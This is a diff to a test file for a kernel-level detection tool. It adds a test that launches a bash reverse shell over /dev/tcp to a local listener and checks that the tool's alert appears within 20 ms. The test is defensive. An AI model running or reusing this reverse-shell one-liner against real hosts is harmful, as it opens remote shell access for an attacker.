@@ -1,11 +1,18 @@
 # SPDX-License-Identifier: MIT
 """Detection on the real kernel: alerts after their events, exclusions, reload, recordings."""
 import os
+import pty
+import select
 import signal
+import socket
+import statistics
 import subprocess
 import time
 
-from live import VIGIL, Running, Traced, Watching, get, loads, run, temporary
+from live import VIGIL, Running, Traced, Watching, get, loads, run, started, temporary
+
+EXAMPLE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "examples",
+                       "detection", "reverse-shell.yml")
 
 RULE = """title: {title}
 id: {id}
@@ -196,6 +203,53 @@ def test_why():
     bad = subprocess.run([VIGIL, "detect", "check", rule], capture_output=True, check=False,
                          text=True)
     assert bad.returncode == 1 and f"{rule}:" in bad.stdout, bad
+
+
+class Screen:
+    """`vigil watch` on a terminal."""
+
+    def __init__(self, *options):
+        self.terminal, theirs = pty.openpty()
+        self.process = subprocess.Popen([VIGIL, "watch", "--type", "alert,status", "--detect",
+                                         EXAMPLE, *options], stdout=theirs,
+                                        stderr=subprocess.DEVNULL)
+        started.append(self.process)
+        os.close(theirs)
+        self.wait_for(b"started")
+
+    def wait_for(self, word):
+        """Reads until the word is on the screen. Returns the time."""
+        seen, deadline = b"", time.monotonic() + 20
+        while word not in seen:
+            assert select.select([self.terminal], [], [], deadline - time.monotonic())[0], seen
+            seen += os.read(self.terminal, 65536)
+        return time.monotonic()
+
+    def stop(self):
+        self.process.send_signal(2)
+        self.process.wait(timeout=30)
+        os.close(self.terminal)
+
+
+def test_reverse_shell():
+    """a reverse shell is on the screen within 20 ms of its start: median of 20, both latencies"""
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen()
+        shell = f"bash -i >& /dev/tcp/127.0.0.1/{listener.getsockname()[1]} 0>&1"
+        for options in ([], ["--low-latency"]):
+            screen, times = Screen(*options), []
+            for _ in range(20):
+                time.sleep(0.05)
+                begun = time.monotonic()
+                child = os.posix_spawn("/bin/bash", ["bash", "-c", shell], os.environ)
+                times.append((screen.wait_for(b"Reverse shell of bash") - begun) * 1000)
+                listener.accept()[0].close()
+                os.waitpid(child, 0)
+            screen.stop()
+            print(f"# {' '.join(options) or 'default'}: median {statistics.median(times):.1f} ms, "
+                  f"at most {max(times):.1f} ms", flush=True)
+            assert statistics.median(times) <= 20, times
 
 
 run(globals())
